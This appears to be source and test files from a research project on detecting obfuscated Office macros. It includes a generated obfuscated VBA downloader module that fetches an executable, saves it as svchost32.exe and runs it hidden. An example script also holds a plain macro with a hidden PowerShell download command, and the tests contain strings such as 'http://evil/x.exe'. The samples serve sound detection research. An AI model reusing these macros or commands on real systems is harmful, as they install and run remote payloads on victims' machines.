                [VBAModule("M", MACRO_A), VBAModule("m", MACRO_B)]
            )

    def test_project_stream_is_text(self):
        streams = build_vba_storage_streams([VBAModule("Module1", MACRO_B)])
        text = streams["PROJECT"].decode("cp1252")
        assert "Module=Module1" in text
        assert 'Name="VBAProject"' in text


class TestLegacyDocExtraction:
    def test_doc_round_trip(self):
        modules = [VBAModule("ThisDocument", MACRO_A, "document")]
        blob = build_legacy_doc(modules)
        assert sniff_format(blob) == "cfb"
        result = extract_macros(blob)
        assert result.container == "cfb"
        assert len(result.modules) == 1
        assert result.modules[0].source == MACRO_A

    def test_xls_round_trip(self):
        modules = [VBAModule("Module1", MACRO_B)]
        result = extract_macros(build_legacy_xls(modules))
        assert result.modules[0].source == MACRO_B

    def test_bare_vba_project_bin(self):
        blob = build_vba_bin([VBAModule("Module1", MACRO_B)])
        result = extract_macros(blob)
        assert result.modules[0].source == MACRO_B

    def test_multiple_modules_preserved_in_order(self):
        modules = [
            VBAModule("ThisDocument", MACRO_A, "document"),
            VBAModule("Module1", MACRO_B),
            VBAModule("Module2", "Sub Z()\nEnd Sub\n"),
        ]
        result = extract_macros(build_legacy_doc(modules))
        assert [m.name for m in result.modules] == [
            "ThisDocument", "Module1", "Module2",
        ]

    def test_document_variables_recovered(self):
        hidden = {'ActiveDocument.Variables("k").Value()': "http://evil/x.exe"}
        blob = build_legacy_doc([VBAModule("M", MACRO_A)], docvars=hidden)
        result = extract_macros(blob)
        assert result.document_variables == hidden

    def test_cfb_without_vba_project(self):
        writer = CompoundFileWriter()
        writer.add_stream("WordDocument", b"\x00" * 64)
        with pytest.raises(ExtractionError):
            extract_macros(writer.tobytes())


class TestOOXMLExtraction:
    def test_docm_round_trip(self):
        vba = build_vba_bin([VBAModule("ThisDocument", MACRO_A, "document")])
        blob = build_docm(vba, body_text="Invoice attached")
        assert sniff_format(blob) == "ooxml"
        result = extract_macros(blob)
        assert result.container == "ooxml"
        assert result.modules[0].source == MACRO_A

    def test_xlsm_round_trip(self):
        vba = build_vba_bin([VBAModule("Module1", MACRO_B)])
        result = extract_macros(build_xlsm(vba))
        assert result.modules[0].source == MACRO_B

    def test_package_structure(self):
        vba = build_vba_bin([VBAModule("Module1", MACRO_B)])
        parts = list_parts(build_docm(vba))
        assert "[Content_Types].xml" in parts
        assert "_rels/.rels" in parts
        assert "word/document.xml" in parts
        assert "word/vbaProject.bin" in parts

    def test_read_vba_part_matches_input(self):
        vba = build_vba_bin([VBAModule("Module1", MACRO_B)])
        assert read_vba_part(build_docm(vba)) == vba

    def test_padding_inflates_file(self):
        vba = build_vba_bin([VBAModule("Module1", MACRO_B)])
        small = build_docm(vba)
        large = build_docm(vba, padding=500_000)
        assert len(large) > len(small) + 400_000

    def test_zip_without_vba_part(self):
        import io
        import zipfile

        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("hello.txt", "hi")
        with pytest.raises(ExtractionError):
            extract_macros(buffer.getvalue())


class TestSniffing:
    def test_unknown_format(self):
        assert sniff_format(b"plain text") == "unknown"
        with pytest.raises(ExtractionError):
            extract_macros(b"plain text")


class TestDocVars:
    def test_round_trip(self):
        variables = {
            'ActiveDocument.Variables("a").Value()': "calc.exe",
            "UserForm1.Label1.Caption": 'cmd /c "echo hi"',
        }
        assert decode_docvars(encode_docvars(variables)) == variables

    def test_empty(self):
        assert decode_docvars(encode_docvars({})) == {}

    def test_malformed_header(self):
        with pytest.raises(DocVarsError):
            decode_docvars(b"not docvars at all")

    @given(
        st.dictionaries(
            st.text(min_size=1, max_size=60),
            st.text(max_size=120),
            max_size=10,
        )
    )
    def test_round_trip_arbitrary(self, variables):
        assert decode_docvars(encode_docvars(variables)) == variables


class TestPropertyBased:
    @settings(max_examples=20, deadline=None)
    @given(
        st.lists(
            st.text(
                alphabet=st.characters(min_codepoint=32, max_codepoint=126),
                max_size=300,
            ),
            min_size=1,
            max_size=5,
        )
    )
    def test_any_module_sources_round_trip(self, sources):
        modules = [
            VBAModule(f"Module{i}", source) for i, source in enumerate(sources)
        ]
        result = extract_macros(build_legacy_doc(modules))
        assert [m.source for m in result.modules] == sources
