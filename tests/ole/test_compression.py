"""Tests for the MS-OVBA compression codec."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ole.compression import (
    CHUNK_SIZE,
    OVBACompressionError,
    compress,
    decompress,
)

# A hand-derived container, built token by token from the [MS-OVBA] 2.4.1
# encoding rules:
#   signature 0x01
#   chunk header 0xB005 (compressed, sig 0b011, size field 5 = 6 data bytes + 2 - 3)
#   flag byte 0x08: tokens 0-2 literal, token 3 a copy token
#   literals 'a' 'b' 'c'
#   copy token at d=3: bit_count=4 ⇒ token = (offset-1)<<12 | (length-3)
#   offset 3, length 9 ⇒ 0x2006, little-endian bytes 06 20
# Decodes to "abc" + 9 self-overlapping copied bytes = "abcabcabcabc".
HAND_VECTOR_COMPRESSED = bytes(
    [0x01, 0x05, 0xB0, 0x08, 0x61, 0x62, 0x63, 0x06, 0x20]
)
HAND_VECTOR_PLAIN = b"abcabcabcabc"


class TestSpecVectors:
    def test_decompress_hand_derived_vector(self):
        assert decompress(HAND_VECTOR_COMPRESSED) == HAND_VECTOR_PLAIN

    def test_own_compression_round_trips(self):
        assert decompress(compress(HAND_VECTOR_PLAIN)) == HAND_VECTOR_PLAIN

    def test_copy_token_bit_count_boundaries(self):
        """The spec's CopyTokenHelp table: bit_count vs chunk position."""
        from repro.ole.compression import _copy_token_parameters

        expectations = {
            1: 4, 2: 4, 3: 4, 15: 4, 16: 4,
            17: 5, 32: 5,
            33: 6, 64: 6,
            65: 7, 128: 7,
            129: 8, 256: 8,
            257: 9, 512: 9,
            513: 10, 1024: 10,
            1025: 11, 2048: 11,
            2049: 12, 4096: 12,
        }
        for position, expected_bits in expectations.items():
            _, _, bits = _copy_token_parameters(position)
            assert bits == expected_bits, f"position {position}"

    def test_length_and_offset_masks_are_complementary(self):
        from repro.ole.compression import _copy_token_parameters

        for position in (1, 16, 17, 100, 4096):
            length_mask, offset_mask, _ = _copy_token_parameters(position)
            assert (length_mask | offset_mask) == 0xFFFF
            assert (length_mask & offset_mask) == 0


class TestBasics:
    def test_empty_round_trip(self):
        assert decompress(compress(b"")) == b""

    def test_single_byte(self):
        assert decompress(compress(b"x")) == b"x"

    def test_typical_vba_source(self):
        source = (
            "Sub Document_Open()\n"
            "    Dim target As String\n"
            '    target = "http://example.com/x.exe"\n'
            "    Shell target, 0\n"
            "End Sub\n"
        ).encode("latin-1") * 20
        compressed = compress(source)
        assert decompress(compressed) == source
        assert len(compressed) < len(source)  # repetitive text must shrink

    def test_highly_repetitive_data_compresses_well(self):
        data = b"A" * 10_000
        compressed = compress(data)
        assert decompress(compressed) == data
        assert len(compressed) < len(data) // 20

    def test_incompressible_full_chunks(self):
        import random

        rng = random.Random(0)
        data = bytes(rng.getrandbits(8) for _ in range(CHUNK_SIZE * 2))
        assert decompress(compress(data)) == data

    def test_incompressible_partial_final_chunk(self):
        import random

        rng = random.Random(1)
        data = bytes(rng.getrandbits(8) for _ in range(CHUNK_SIZE + 3900))
        assert decompress(compress(data)) == data

    def test_multi_chunk_boundary_sizes(self):
        for size in (CHUNK_SIZE - 1, CHUNK_SIZE, CHUNK_SIZE + 1, 3 * CHUNK_SIZE):
            data = (b"abcdefgh" * ((size // 8) + 1))[:size]
            assert decompress(compress(data)) == data


class TestErrorHandling:
    def test_empty_container_rejected(self):
        with pytest.raises(OVBACompressionError):
            decompress(b"")

    def test_bad_signature_byte(self):
        with pytest.raises(OVBACompressionError):
            decompress(b"\x02\x00\x00")

    def test_truncated_header(self):
        with pytest.raises(OVBACompressionError):
            decompress(b"\x01\x00")

    def test_bad_chunk_signature(self):
        # Header with wrong 3-bit signature (0b000).
        header = (0x0000).to_bytes(2, "little")
        with pytest.raises(OVBACompressionError):
            decompress(b"\x01" + header + b"\x00")

    def test_chunk_overruns_container(self):
        header = (0x8000 | (0b011 << 12) | 100).to_bytes(2, "little")
        with pytest.raises(OVBACompressionError):
            decompress(b"\x01" + header + b"\x00\x01")

    def test_copy_token_before_chunk_start(self):
        # flag byte 0x01 -> first token is a copy token, but nothing has
        # been decompressed yet in this chunk.
        chunk = b"\x01" + (0x0000).to_bytes(2, "little")
        header = (0x8000 | (0b011 << 12) | ((len(chunk) + 2) - 3)).to_bytes(2, "little")
        with pytest.raises(OVBACompressionError):
            decompress(b"\x01" + header + chunk)


class TestPropertyBased:
    @settings(max_examples=150, deadline=None)
    @given(st.binary(max_size=2000))
    def test_round_trip_arbitrary_bytes(self, data):
        assert decompress(compress(data)) == data

    @settings(max_examples=20, deadline=None)
    @given(st.binary(min_size=CHUNK_SIZE - 10, max_size=CHUNK_SIZE * 2 + 10))
    def test_round_trip_chunk_boundaries(self, data):
        assert decompress(compress(data)) == data

    @settings(max_examples=30, deadline=None)
    @given(
        st.binary(min_size=1, max_size=64),
        st.integers(min_value=1, max_value=500),
    )
    def test_round_trip_periodic_data(self, unit, repeats):
        data = unit * repeats
        assert decompress(compress(data)) == data

    @settings(max_examples=50, deadline=None)
    @given(st.text(max_size=1500))
    def test_round_trip_utf8_text(self, text):
        data = text.encode("utf-8")
        assert decompress(compress(data)) == data
