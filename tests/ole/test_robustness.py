"""Failure injection: corrupted containers must fail loudly and typed.

The extraction stack is the part of the system that handles attacker-
controlled bytes, so the contract is strict: any malformed input raises
``ExtractionError`` / ``CFBError`` / ``OVBACompressionError`` — never an
unrelated exception, never a hang, never silent garbage.
"""

import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ole.cfb import CFBError, CompoundFileReader, CompoundFileWriter
from repro.ole.compression import OVBACompressionError, compress, decompress
from repro.ole.extractor import ExtractionError, extract_macros
from repro.ole.vba_project import VBAModule, build_vba_storage_streams

EXPECTED_ERRORS = (ExtractionError, CFBError, OVBACompressionError)

MACRO = "Sub Document_Open()\n    x = 1\nEnd Sub\n"


def build_doc() -> bytes:
    writer = CompoundFileWriter()
    writer.add_stream("WordDocument", b"\x00" * 64)
    for path, data in build_vba_storage_streams([VBAModule("M", MACRO)]).items():
        writer.add_stream(f"Macros/{path}", data)
    return writer.tobytes()


class TestTruncation:
    @pytest.mark.parametrize("keep", [9, 100, 511, 513, 1024])
    def test_truncated_cfb_raises_typed_error(self, keep):
        blob = build_doc()[:keep]
        with pytest.raises(EXPECTED_ERRORS):
            extract_macros(blob)

    def test_truncated_zip(self):
        from repro.corpus.documents import build_document_bytes

        blob = build_document_bytes([MACRO], "docm")
        for keep in (10, len(blob) // 2):
            with pytest.raises((ExtractionError, Exception)):
                extract_macros(blob[:keep])


class TestBitflips:
    def test_corrupt_fat_entries_raise(self):
        blob = bytearray(build_doc())
        # Smash a swath in the middle of the file (stream/FAT sectors).
        start = len(blob) // 2
        for offset in range(start, min(start + 64, len(blob))):
            blob[offset] ^= 0xFF
        try:
            result = extract_macros(bytes(blob))
            # Corruption may land in slack space; if extraction succeeds the
            # macro must still be intact or raise — never half-garbage
            # silently: check it returns *some* modules structure.
            assert isinstance(result.modules, list)
        except EXPECTED_ERRORS:
            pass

    @settings(max_examples=30, deadline=None)
    @given(
        offset_fraction=st.floats(min_value=0.02, max_value=0.98),
        value=st.integers(min_value=0, max_value=255),
    )
    def test_single_byte_corruption_never_crashes_untyped(
        self, offset_fraction, value
    ):
        blob = bytearray(build_doc())
        offset = int(len(blob) * offset_fraction)
        blob[offset] = value
        try:
            extract_macros(bytes(blob))
        except EXPECTED_ERRORS:
            pass
        # Any other exception type fails the test by propagating.

    def test_directory_cycle_terminates(self):
        # Regression (hypothesis-found): zeroing this byte rewires a
        # directory-entry pointer into a cycle; the tree walk must stay
        # finite instead of recursing until RecursionError.
        blob = bytearray(build_doc())
        blob[int(len(blob) * 0.5664495014408513)] = 0
        try:
            extract_macros(bytes(blob))
        except EXPECTED_ERRORS:
            pass


class TestFuzzArbitraryBytes:
    @settings(max_examples=60, deadline=None)
    @given(st.binary(max_size=2048))
    def test_extractor_is_total_on_arbitrary_bytes(self, data):
        try:
            extract_macros(data)
        except EXPECTED_ERRORS:
            pass

    @settings(max_examples=60, deadline=None)
    @given(st.binary(min_size=1, max_size=1024))
    def test_decompressor_is_total_on_arbitrary_bytes(self, data):
        try:
            decompress(b"\x01" + data)
        except OVBACompressionError:
            pass

    @settings(max_examples=30, deadline=None)
    @given(st.binary(max_size=512))
    def test_cfb_reader_is_total_on_magic_prefixed_bytes(self, data):
        from repro.ole.cfb import MAGIC

        try:
            CompoundFileReader(MAGIC + data)
        except CFBError:
            pass
        except struct_errors():
            pytest.fail("reader leaked a struct.error")


def struct_errors():
    import struct

    return (struct.error,)


class TestHostileZip:
    def test_zip_with_directory_escape_name(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("../../etc/vbaProject.bin", b"not a cfb")
        with pytest.raises(EXPECTED_ERRORS):
            extract_macros(buffer.getvalue())

    def test_zip_with_fake_vba_part(self):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("word/vbaProject.bin", b"PK garbage not cfb")
        with pytest.raises(EXPECTED_ERRORS):
            extract_macros(buffer.getvalue())

    def test_nested_cfb_without_dir_stream(self):
        inner = CompoundFileWriter()
        inner.add_stream("VBA/NotDir", b"\x00")
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("word/vbaProject.bin", inner.tobytes())
        with pytest.raises(EXPECTED_ERRORS):
            extract_macros(buffer.getvalue())


class TestCorruptModuleStreams:
    def test_garbage_compressed_module(self):
        writer = CompoundFileWriter()
        streams = build_vba_storage_streams([VBAModule("M", MACRO)])
        streams["VBA/M"] = b"\xff\xfe\xfd garbage"
        for path, data in streams.items():
            writer.add_stream(f"Macros/{path}", data)
        writer.add_stream("WordDocument", b"\x00")
        with pytest.raises(EXPECTED_ERRORS):
            extract_macros(writer.tobytes())

    def test_garbage_dir_stream(self):
        writer = CompoundFileWriter()
        streams = build_vba_storage_streams([VBAModule("M", MACRO)])
        streams["VBA/dir"] = compress(b"\x99\x99\x99\x99")
        for path, data in streams.items():
            writer.add_stream(f"Macros/{path}", data)
        writer.add_stream("WordDocument", b"\x00")
        # A dir stream with no module records yields zero modules — a valid
        # (empty) result, matching olevba's tolerance.
        result = extract_macros(writer.tobytes())
        assert result.modules == []
