"""Tests for the compound file binary reader/writer."""

import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ole.cfb import (
    MAGIC,
    MINI_STREAM_CUTOFF,
    CFBError,
    CompoundFileReader,
    CompoundFileWriter,
)


def round_trip(streams: dict[str, bytes]) -> CompoundFileReader:
    writer = CompoundFileWriter()
    for path, data in streams.items():
        writer.add_stream(path, data)
    return CompoundFileReader(writer.tobytes())


class TestWriterBasics:
    def test_empty_file_has_valid_header(self):
        blob = CompoundFileWriter().tobytes()
        assert blob[:8] == MAGIC
        assert len(blob) % 512 == 0
        reader = CompoundFileReader(blob)
        assert reader.root.name == "Root Entry"

    def test_single_small_stream(self):
        reader = round_trip({"hello": b"world"})
        assert reader.read_stream("hello") == b"world"

    def test_single_large_stream(self):
        data = bytes(range(256)) * 64  # 16 KiB, above the mini cutoff
        reader = round_trip({"big": data})
        assert reader.read_stream("big") == data

    def test_stream_exactly_at_cutoff_goes_to_fat(self):
        data = b"x" * MINI_STREAM_CUTOFF
        reader = round_trip({"edge": data})
        assert reader.read_stream("edge") == data

    def test_stream_just_below_cutoff_in_ministream(self):
        data = b"y" * (MINI_STREAM_CUTOFF - 1)
        reader = round_trip({"edge": data})
        assert reader.read_stream("edge") == data

    def test_empty_stream(self):
        reader = round_trip({"empty": b""})
        assert reader.read_stream("empty") == b""

    def test_nested_storages(self):
        reader = round_trip(
            {
                "Macros/VBA/dir": b"dir-bytes",
                "Macros/VBA/Module1": b"module-bytes",
                "Macros/PROJECT": b"project-text",
                "WordDocument": b"\x00" * 128,
            }
        )
        assert reader.read_stream("Macros/VBA/dir") == b"dir-bytes"
        assert reader.read_stream("Macros/VBA/Module1") == b"module-bytes"
        assert reader.read_stream("Macros/PROJECT") == b"project-text"
        assert reader.read_stream("WordDocument") == b"\x00" * 128

    def test_many_siblings_exercise_directory_tree(self):
        streams = {f"S/stream{i:03d}": bytes([i]) * 10 for i in range(40)}
        reader = round_trip(streams)
        for path, data in streams.items():
            assert reader.read_stream(path) == data

    def test_case_insensitive_lookup(self):
        reader = round_trip({"Macros/VBA/ThisDocument": b"x"})
        assert reader.read_stream("macros/vba/thisdocument") == b"x"
        assert reader.exists("MACROS/VBA")

    def test_list_paths(self):
        reader = round_trip({"A/inner": b"1", "top": b"2"})
        paths = reader.list_paths()
        assert "A/" in paths
        assert "A/inner" in paths
        assert "top" in paths
        assert reader.list_streams() == [p for p in paths if not p.endswith("/")]

    def test_duplicate_stream_rejected(self):
        writer = CompoundFileWriter()
        writer.add_stream("x", b"1")
        with pytest.raises(CFBError):
            writer.add_stream("x", b"2")

    def test_storage_stream_conflict(self):
        writer = CompoundFileWriter()
        writer.add_stream("x", b"1")
        with pytest.raises(CFBError):
            writer.add_stream("x/y", b"2")

    def test_name_too_long(self):
        writer = CompoundFileWriter()
        with pytest.raises(CFBError):
            writer.add_stream("a" * 40, b"data")

    def test_illegal_name_characters(self):
        writer = CompoundFileWriter()
        with pytest.raises(CFBError):
            writer.add_stream("bad\\name...", b"")

    def test_empty_path_rejected(self):
        with pytest.raises(CFBError):
            CompoundFileWriter().add_stream("", b"")


class TestReaderErrors:
    def test_not_a_compound_file(self):
        with pytest.raises(CFBError):
            CompoundFileReader(b"PK\x03\x04" + b"\x00" * 600)

    def test_truncated(self):
        with pytest.raises(CFBError):
            CompoundFileReader(MAGIC)

    def test_read_missing_stream(self):
        reader = round_trip({"a": b"1"})
        with pytest.raises(CFBError):
            reader.read_stream("nope")

    def test_read_storage_as_stream(self):
        reader = round_trip({"S/a": b"1"})
        with pytest.raises(CFBError):
            reader.read_stream("S")

    def test_bad_byte_order_mark(self):
        blob = bytearray(CompoundFileWriter().tobytes())
        struct.pack_into("<H", blob, 28, 0xAAAA)
        with pytest.raises(CFBError):
            CompoundFileReader(bytes(blob))

    def test_unsupported_version(self):
        blob = bytearray(CompoundFileWriter().tobytes())
        struct.pack_into("<H", blob, 26, 7)
        with pytest.raises(CFBError):
            CompoundFileReader(bytes(blob))


class TestPropertyBased:
    @settings(max_examples=40, deadline=None)
    @given(
        st.dictionaries(
            st.text(
                alphabet=st.characters(
                    min_codepoint=48,
                    max_codepoint=122,
                    exclude_characters="/\\:!",
                ),
                min_size=1,
                max_size=20,
            ),
            st.binary(max_size=6000),
            min_size=1,
            max_size=12,
        )
    )
    def test_arbitrary_stream_sets_round_trip(self, raw_streams):
        # Collapse case-colliding names the way the writer's storage would.
        streams: dict[str, bytes] = {}
        seen_upper: set[str] = set()
        for name, data in raw_streams.items():
            if name.upper() in seen_upper:
                continue
            seen_upper.add(name.upper())
            streams[name] = data
        reader = round_trip(streams)
        for path, data in streams.items():
            assert reader.read_stream(path) == data

    @settings(max_examples=20, deadline=None)
    @given(st.binary(min_size=0, max_size=40_000))
    def test_any_size_single_stream(self, data):
        reader = round_trip({"payload": data})
        assert reader.read_stream("payload") == data

    @settings(max_examples=20, deadline=None)
    @given(st.integers(min_value=0, max_value=5))
    def test_depth_nested_storages(self, depth):
        path = "/".join(f"level{i}" for i in range(depth)) or "top"
        path = path + "/leaf" if depth else "leaf"
        reader = round_trip({path: b"deep"})
        assert reader.read_stream(path) == b"deep"
