"""Legacy shim: enables editable installs in offline environments lacking
the ``wheel`` package (``pip install -e . --no-build-isolation`` falls back
to ``python setup.py develop``)."""

from setuptools import setup

setup()
