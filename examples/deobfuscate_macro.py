"""De-obfuscation walkthrough: recover plaintext indicators statically.

Obfuscates a downloader with every O2/O3 technique, then runs the static
de-obfuscation engine and shows (a) the recovered source, (b) the simulated
AV fleet's detections before/after — the operational payoff.

Run with::

    python examples/deobfuscate_macro.py
"""

from __future__ import annotations

from repro.avsim.virustotal import VirusTotalSim
from repro.deobfuscation import deobfuscate
from repro.obfuscation.encode import StringEncoder
from repro.obfuscation.pipeline import ObfuscationPipeline
from repro.obfuscation.split import StringSplitter

MACRO = (
    "Sub Document_Open()\n"
    "    Dim target As String\n"
    "    Dim cradle As String\n"
    '    target = "http://update-cdn.example.net/a1b2c3/svchost32.exe"\n'
    '    cradle = "powershell -w hidden -c Invoke-WebRequest " & target\n'
    '    CreateObject("WScript.Shell").Run cradle, 0, False\n'
    "End Sub\n"
)


def main() -> None:
    pipeline = ObfuscationPipeline(
        [
            StringSplitter(chunk_min=1, chunk_max=3, hoist_const_probability=0.4),
            StringEncoder(),
        ]
    )
    obfuscated = pipeline.run(MACRO, seed=2024).source
    print("=== obfuscated macro (what an analyst receives) ===")
    print(obfuscated)

    scanner = VirusTotalSim()
    before = scanner.scan([obfuscated])

    outcome = deobfuscate(obfuscated)
    print("\n=== after static de-obfuscation ===")
    print(outcome.source)

    after = scanner.scan([outcome.source])
    report = outcome.report
    print("=== report ===")
    print(f"expressions folded:        {report.folded_expressions}")
    print(f"decoder calls evaluated:   {report.decoder_calls_evaluated}")
    print(f"module consts inlined:     {report.consts_inlined}")
    print(f"decoder procedures removed: {', '.join(report.procedures_removed) or '-'}")
    interesting = [s for s in report.recovered_strings if "http" in s or "powershell" in s]
    print(f"recovered indicators:      {interesting[-2:]}")
    print(
        f"\nAV detections: {before.detections}/60 before -> "
        f"{after.detections}/60 after de-obfuscation"
    )
    assert "svchost32.exe" in outcome.source
    print("\nThe download URL and PowerShell cradle are back in plaintext.")


if __name__ == "__main__":
    main()
