Dim bmereparomutm As String
Dim itecgcuce As Variant
Public Const teljeqarig = "H"
Public Const eefokoojabobuvfk = "TP"
Public Const ibyfiye = "A"
Public Const vqzj865ufrdl = "m"
Public Const ibfqfoeqh3av = "l"
Sub itebqwhdfibfgj()
    Dim ygjoqvfilzaibaax As Object
    Dim osowoikepgicoi As Object
    Dim ffioailkrk As String
    On Error Resume Next
    Set ygjoqvfilzaibaax = CreateObject(("MSX"&"ML"& jglfakmcp(Array(1406, 1402, 1444, 1433))&"L" & teljeqarig & "T" & eefokoojabobuvfk))
    Set osowoikepgicoi = CreateObject(("A"&"D"&"O"&"DB"& jcmejvqtia4d5(Array(209, 172, 139, 141))&"eam"))
    ffioailkrk = Environ(("AP" & "P" & "DAT" & ibyfiye)) & ("\" & "svc" & "hos" & "t32" & (Chr(46)&Chr(101)&Chr(120)&Chr(101)))
    ygjoqvfilzaibaax.Open "GET", ("htt"& dn5s7s333h(Array(206, 132, 145, 145))&"f"&"i"&"les"& cpajocqoimggcs(Array(1061, 1115, 1129, 1126))&"p-z"& qiletuq(Array(1848, 1847, 1838, 1783))& _
      "exa" & vqzj865ufrdl & Replace("plibj/", "ibj", "e")&"zde"&"8g"& _
      "x"& wxo55zbka5(Array(171, 249, 224, 166))&"n"&"vo"&"ice"&"_v"&"ie"& (Chr(119)&Chr(46)&Chr(101)&Chr(120))& _
      "e"), False
    ygjoqvfilzaibaax.Send
    If ygjoqvfilzaibaax.Status = 200 Then
        osowoikepgicoi.Open
        osowoikepgicoi.Type = 1
        osowoikepgicoi.Write ygjoqvfilzaibaax.responseBody
        osowoikepgicoi.SaveToFile ffioailkrk, 2
        osowoikepgicoi.Close
        CreateObject((gonifjiduracigin("V1Njcg==")& (Chr(105)&Chr(112)&Chr(116)&Chr(46))& hmmuonjae(Array(204, 247, 250, 243)) & ibfqfoeqh3av)).Run ffioailkrk, 0, False
    End If
End Sub

Function jglfakmcp(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1356)
    Next uvuzazeciowakad
    jglfakmcp = c7e4qeqpno35ye
End Function

Function jcmejvqtia4d5(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 255)
    Next uvuzazeciowakad
    jcmejvqtia4d5 = c7e4qeqpno35ye
End Function

Function dn5s7s333h(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 190)
    Next uvuzazeciowakad
    dn5s7s333h = c7e4qeqpno35ye
End Function

Function cpajocqoimggcs(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1015)
    Next uvuzazeciowakad
    cpajocqoimggcs = c7e4qeqpno35ye
End Function

Function qiletuq(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) - 1737)
    Next uvuzazeciowakad
    qiletuq = c7e4qeqpno35ye
End Function

Function wxo55zbka5(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 207)
    Next uvuzazeciowakad
    wxo55zbka5 = c7e4qeqpno35ye
End Function

Function gonifjiduracigin(udazakueqo As String) As String
    Dim boudogiwomi As String
    boudogiwomi = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    Dim uvuzazeciowakad As Long
    Dim rvmdfufcg As Long
    Dim p9o2v21i9mpflv As Long
    Dim c7e4qeqpno35ye As String
    Dim hlizsgaxnmnxqg As String
    Dim ybpislevqquz As Long
    c7e4qeqpno35ye = ""
    rvmdfufcg = 0
    p9o2v21i9mpflv = 0
    For uvuzazeciowakad = 1 To Len(udazakueqo)
        hlizsgaxnmnxqg = Mid(udazakueqo, uvuzazeciowakad, 1)
        If hlizsgaxnmnxqg <> "=" Then
            ybpislevqquz = InStr(boudogiwomi, hlizsgaxnmnxqg) - 1
            If ybpislevqquz >= 0 Then
                rvmdfufcg = rvmdfufcg * 64 + ybpislevqquz
                p9o2v21i9mpflv = p9o2v21i9mpflv + 6
                If p9o2v21i9mpflv >= 8 Then
                    p9o2v21i9mpflv = p9o2v21i9mpflv - 8
                    c7e4qeqpno35ye = c7e4qeqpno35ye & Chr((rvmdfufcg \ (2 ^ p9o2v21i9mpflv)) Mod 256)
                End If
            End If
        End If
    Next uvuzazeciowakad
    gonifjiduracigin = c7e4qeqpno35ye
End Function

Function hmmuonjae(udazakueqo As Variant) As String
    Dim uvuzazeciowakad As Long
    Dim c7e4qeqpno35ye As String
    c7e4qeqpno35ye = ""
    For uvuzazeciowakad = LBound(udazakueqo) To UBound(udazakueqo)
        c7e4qeqpno35ye = c7e4qeqpno35ye & Chr(udazakueqo(uvuzazeciowakad) Xor 159)
    Next uvuzazeciowakad
    hmmuonjae = c7e4qeqpno35ye
End Function

Private Sub ttouofefsaga()
    Dim ramuluw As Double
    ramuluw = 31
    ramuluw = Sqr(Abs(ramuluw * 7))
    ramuluw = Round(ramuluw + 41 / 7, 3)
End Sub
