"""Mail-gateway triage scenario: scan an Office document before opening it.

The workflow the paper's introduction motivates — a phishing attachment
arrives, and the gateway must decide without executing anything:

1. build a realistic malicious .docm (obfuscated downloader) and a benign
   .xlsm, byte-for-byte real containers;
2. run both through the staged :class:`AnalysisEngine` — the same
   parse-once pipeline (extract → analyze → featurize → classify) behind
   ``python -m repro scan`` — in one batch;
3. cross-check with the simulated multi-vendor AV aggregate.

Run with::

    python examples/scan_document.py
"""

from __future__ import annotations

import random

from repro import ObfuscationDetector
from repro.avsim.virustotal import VirusTotalSim
from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.obfuscation.pipeline import default_pipeline

from quickstart import build_training_data


def make_suspicious_attachment(rng: random.Random) -> bytes:
    """An obfuscated downloader inside a .docm, like a phishing attachment."""
    plain = generate_malicious_macro(rng, "word")
    obfuscated = default_pipeline().run(plain, seed=1337)
    return build_document_bytes(
        [obfuscated.source],
        "docm",
        document_variables=obfuscated.document_variables,
    )


def make_legitimate_workbook(rng: random.Random) -> bytes:
    """A normal automation workbook with two macros."""
    macros = [
        generate_benign_module(rng, "excel", target_length=1200),
        generate_benign_module(rng, "excel", target_length=600),
    ]
    return build_document_bytes(macros, "xlsm")


def triage(record, av: VirusTotalSim) -> None:
    print(f"\n=== {record.source_id} ===")
    print(f"container: {record.container}, macros: {len(record.macros)}")
    if record.document_variables:
        print(f"hidden document variables: {len(record.document_variables)}")
    for macro in record.macros:
        flag = "OBFUSCATED" if macro.is_obfuscated else "normal"
        print(
            f"  module {macro.module_name!r}: {len(macro.source):,} chars "
